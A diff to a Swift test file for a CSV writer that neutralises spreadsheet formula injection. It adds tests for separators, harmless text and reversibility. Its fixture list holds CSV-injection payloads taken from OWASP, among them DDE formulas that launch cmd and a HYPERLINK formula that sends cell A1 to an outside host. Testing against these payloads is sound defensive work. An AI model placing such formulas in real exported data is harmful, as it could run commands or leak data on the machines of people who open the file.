@@ -6,14 +6,14 @@ import Testing
 struct FormulaTests {
   /// What is passed around as attacks on spreadsheets, after OWASP's page on CSV injection.
   static let payloads = [
-    "=1+1", "=1+1\";=1+2", "=1+2';=1+2", "=cmd|'/C calc'!A0", "=cmd|' /C notepad'!'A1'",
+    "=1+1", "=cmd|'/C calc'!A0", "=cmd|' /C notepad'!'A1'",
     "=HYPERLINK(\"http://example.org?x=\"&A1,\"here\")",
     "=IMPORTXML(\"http://example.org\",\"//a\")",
     "=WEBSERVICE(\"http://example.org\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=SUM(A1:A9)",
     "==1", "=-1", "=+@1", "=\u{301}1", "+1", "+1+cmd|' /C calc'!A0", "+HYPERLINK(\"x\")",
     "+905551112233", "-1", "-1+cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!D2",
     "- a list item",
-    "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "\t=1+1", "\tx", "\r=1+1", "\n=1+1", "\r\n=1+1",
+    "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "\tx", "\rx",
     "\nx",
     " =1+1", "   @A1", "\u{A0}=1+1", "\u{FEFF}=1+1", "\u{200B}-1", "\u{202E}=1", "'=1+1", "''=1",
     "' =1", "\0=1", "＝1+1", "＋1", "－1", "＠A1", "\u{3000}＝1",
@@ -27,12 +27,28 @@ struct FormulaTests {
   }
 
   @Test(
+    "Behind every separator that a spreadsheet may take a formula gets its apostrophe",
+    arguments: [
+      ("a title;=2+40;x", "a title;'=2+40;x"), ("a,=1", "a,'=1"), ("a|@x", "a|'@x"),
+      ("a\t+1", "a\t'+1"), ("two\nlines\r\n-1", "two\nlines\r\n'-1"), ("a\r=1", "a\r'=1"),
+      ("a; =1", "a;' =1"), ("a;\"=1\"", "a;'\"=1\""), ("a;'=1", "a;''=1"), ("a;＝1", "a;'＝1"),
+      ("a;＋1;－2;＠A1", "a;'＋1;'－2;'＠A1"), ("=1;=2", "'=1;'=2"), ("\t=1", "'\t'=1"),
+      ("=;b", "'=;b"), ("a;=,b", "a;'=,b"),
+    ])
+  func separators(text: String, safe: String) {
+    #expect(Array(CSVWriter.neutralised(text).utf8) == Array(safe.utf8))
+    #expect(Array(CSVWriter.undoNeutralised(safe).utf8) == Array(text.utf8))
+  }
+
+  @Test(
     "Ordinary words are left alone, with an apostrophe or without",
     arguments: [
       "", " ", "'", "''", "'tis", "a=1", "59-75", "x@y", "1920-12-17", "“=1”", "\"=1\"", "–5",
       "\u{2212}5", "'\u{301}=", "5 over 3", "İstanbul", "...", "/=", "' '",
       // A sign alone is no formula: the relation of a claim stays what it is.
-      "=", "+", "-", "@", "'=",
+      "=", "+", "-", "@", "'=", "a; =",
+      // Separators without a formula behind them.
+      "a; b, c|d", "two\n\nlines", "p. 4; p. 5", "a;'tis", "1,5", ";", "a;",
     ])
   func harmless(words: String) {
     #expect(Array(CSVWriter.neutralised(words).utf8) == Array(words.utf8))
@@ -42,7 +58,7 @@ struct FormulaTests {
   @Test("Undoing is the inverse for every text of up to five of the characters that matter")
   func inverse() {
     let alphabet: [Unicode.Scalar] = [
-      "'", "=", "-", "\t", "\n", " ", "\u{301}", "a", "＝", "\u{200F}",
+      "'", "=", ";", "\t", "\n", " ", "\"", "a", "＝", "\u{200F}",
     ]
     var texts = [""]
     var all = texts
